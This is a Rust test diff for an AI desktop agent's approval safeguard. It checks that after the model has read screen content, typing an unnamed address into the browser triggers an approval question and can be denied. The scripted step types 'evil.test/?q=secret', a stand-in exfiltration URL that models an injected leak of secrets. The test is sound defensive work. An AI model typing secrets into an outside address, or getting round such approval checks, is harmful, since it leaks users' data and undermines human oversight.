@@ -469,3 +469,25 @@ async fn a_question_about_a_window_names_it_as_it_is_called_now() {
     }
     bench.end().await;
 }
+
+// bar: C35
+#[tokio::test]
+async fn in_auto_an_address_that_nobody_named_is_asked_about_once_the_model_has_read_something() {
+    let typing = || Step::call("type", json!({ "text": "evil.test/?q=secret", "reason": "to look it up" }));
+    for has_read in [false, true] {
+        let look = has_read.then(|| Step::call("listWindows", json!({})));
+        let mut bench = Bench::new(look.into_iter().chain([typing(), done()]).collect()).await;
+        bench
+            .desktop
+            .edit(|scene| scene.windows = vec![WindowView { app: "Chromium".into(), ..window(1, "new") }]);
+        bench.start(ApprovalMode::Auto).await;
+        if has_read {
+            let question = bench.question().await;
+            assert_eq!(question.hosts, ["evil.test"]);
+            assert!(question.reason.contains("evil.test"), "{}", question.reason);
+            bench.handle.answer_approval(answer(&question, Answer::Deny), Surface::Dashboard).await.unwrap();
+        }
+        assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
+        assert_eq!(bench.desktop.actions().is_empty(), has_read);
+    }
+}
